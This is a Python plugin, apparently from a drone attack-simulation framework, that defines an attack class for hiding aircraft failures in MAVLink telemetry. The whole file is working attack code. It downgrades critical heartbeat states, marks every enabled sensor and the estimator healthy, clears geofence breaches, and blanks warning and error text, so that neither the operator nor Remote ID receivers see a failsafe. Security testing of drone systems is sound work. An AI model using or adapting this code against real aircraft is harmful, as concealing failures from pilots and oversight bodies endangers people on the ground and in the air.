"""Hidden failures: reports of failsafes, faulty sensors and a bad estimator, made to look like a healthy aircraft's."""

from __future__ import annotations

import skyrange.plugin as sky
from skyrange.attack.bases.mavlink.telemetry import report_healthy
from skyrange.codec.mavlink import dialect as mav


@sky.attack(
    "telemetry.hide_failures",
    technique="T0878",
    effect="neither operator nor Remote ID receivers learn of a failsafe",
    knowledge="the messages that report failures",
)
class HiddenFailures(sky.AlteredTelemetry):
    """Hides failures in telemetry: status, sensor health, estimator, fence and warnings.

    All reports of failures are made harmless. Warnings and errors are blanked; their frames stay.
    """

    sees = ("HEARTBEAT", "SYS_STATUS", "EKF_STATUS_REPORT", "FENCE_STATUS", "STATUSTEXT")

    def alter(self, message: str, fields: sky.MavlinkFields, since_ns: sky.Time) -> bool:
        match message:
            case "HEARTBEAT" if fields["system_status"] >= mav.MAV_STATE_CRITICAL:
                armed = fields["base_mode"] & mav.MAV_MODE_FLAG_SAFETY_ARMED
                sky.put(fields, "system_status", mav.MAV_STATE_ACTIVE if armed else mav.MAV_STATE_STANDBY)
            case "SYS_STATUS":
                fields["onboard_control_sensors_health"] |= fields["onboard_control_sensors_enabled"]
            case "EKF_STATUS_REPORT":
                report_healthy(fields)
            case "FENCE_STATUS":
                sky.put(fields, "breach_status", 0)
                sky.put(fields, "breach_type", mav.FENCE_BREACH_NONE)
            case "STATUSTEXT" if fields["severity"] <= mav.MAV_SEVERITY_WARNING:
                sky.put(fields, "severity", mav.MAV_SEVERITY_DEBUG)
                fields["text"] = b""
        return True
